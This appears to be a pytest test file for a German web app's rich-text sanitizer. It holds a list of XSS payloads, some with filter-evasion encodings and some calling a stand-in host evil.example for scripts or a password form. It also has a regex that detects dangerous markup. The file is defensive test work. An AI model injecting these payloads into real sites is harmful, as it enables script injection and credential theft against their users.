"""Rich text (imprint, signature): XSS payloads come out harmless, allowed markup survives."""

from __future__ import annotations

import re

import pytest

from tenant_app.text.rich import has_text, rich_text_to_plain, sanitize_rich_text

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<body onload=alert(1)>",
    "<p onclick=\"alert(1)\" onmouseover='alert(2)'>text</p>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="color:red">x</a>',
    '<a href="//evil.example/phish">protocol-relative</a>',
    '<a href="/relative/path">relative</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<div style="width:expression(alert(1))">old IE</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>",
    "<strong onmouseover=alert(1)>bold</strong>",
    '<a href="https://ok.example" target="_top">frame-busting target</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<p>text</p><img src="https://tracker.example/pixel.gif">',
    '<a href="https://ok.example" rel="opener">opener</a>',
]

DANGEROUS = re.compile(
    r"<\s*/?\s*(script|style|img|svg|math|iframe|object|embed|form|input|button|meta|link|base|"
    r"body|template|noscript|details|table)\b|\bon[a-z]+\s*=|javascript:|vbscript:|data:|"
    r"\bstyle\s*=|expression\(|srcdoc|formaction|target=\"_top\"|rel=\"opener\"",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_come_out_harmless(payload: str) -> None:
    cleaned = sanitize_rich_text(payload)
    assert not DANGEROUS.search(cleaned), cleaned
    assert sanitize_rich_text(cleaned) == cleaned  # stable: sanitizing again changes nothing


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_plain_text_of_payloads_carries_no_script_links(payload: str) -> None:
    # Only ever used as a text/plain mail part, so left-over "<" is inert text there.
    plain = rich_text_to_plain(payload).lower()
    assert "javascript:" not in plain and "data:" not in plain and "alert(2)" not in plain


def test_every_link_is_absolute_with_an_allowed_scheme_and_safe_rel() -> None:
    cleaned = sanitize_rich_text(" ".join(XSS_PAYLOADS))
    for href in re.findall(r'href="([^"]*)"', cleaned):
        assert href.startswith(("https://", "http://", "mailto:", "tel:")), href
    for anchor in re.findall(r"<a [^>]*>", cleaned):
        assert 'rel="noopener noreferrer"' in anchor, anchor


ALLOWED = [
    "<p>Muster &amp; Partner GmbH<br>Hauptstraße 1</p>",
    "<p><strong>Geschäftsführer:</strong> <em>Max Muster</em></p>",
    "<p><b>bold</b> and <i>italic</i></p>",
    "<ul><li>eins</li><li>zwei</li></ul>",
    "<ol><li>first</li><li>second</li></ol>",
    '<p><a href="https://www.muster.de" rel="noopener noreferrer">Website</a></p>',
    '<p><a href="https://www.muster.de" target="_blank" rel="noopener noreferrer">neu</a></p>',
    '<p><a href="mailto:info@muster.de" rel="noopener noreferrer">info@muster.de</a></p>',
    '<p><a href="tel:+4930123456" rel="noopener noreferrer">030 123456</a></p>',
    '<p><a href="http://alt.example/pfad?x=1&amp;y=2" rel="noopener noreferrer">alt</a></p>',
]


@pytest.mark.parametrize("markup", ALLOWED)
def test_allowed_markup_survives_unchanged(markup: str) -> None:
    assert sanitize_rich_text(markup) == markup


def test_new_tab_links_always_get_noopener_noreferrer() -> None:
    cleaned = sanitize_rich_text('<a href="https://x.example" target="_blank">x</a>')
    assert cleaned == '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>'


def test_pasted_block_markup_keeps_its_structure_as_paragraphs() -> None:
    cleaned = sanitize_rich_text('<div class="x">Zeile 1</div><h2 id="y">Titel</h2>')
    assert cleaned == "<p>Zeile 1</p><p>Titel</p>"


def test_text_is_escaped_not_interpreted() -> None:
    assert sanitize_rich_text("a < b & c > d") == "a &lt; b &amp; c &gt; d"


def test_has_text_ignores_empty_paragraphs() -> None:
    assert not has_text("")
    assert not has_text("<p></p><p><br></p><p>&nbsp; </p>")
    assert not has_text("<script>alert(1)</script>")
    assert has_text("<p>Impressum</p>")


def test_plain_text_of_a_signature_is_readable() -> None:
    signature = (
        "<p>Viele Grüße<br>Ihr Alpha-Team</p>"
        '<ul><li><a href="https://alpha.example">Website</a></li>'
        '<li><a href="mailto:info@alpha.example">info@alpha.example</a></li></ul>'
    )
    assert rich_text_to_plain(signature) == (
        "Viele Grüße\nIhr Alpha-Team\n• Website (https://alpha.example)\n• info@alpha.example"
    )
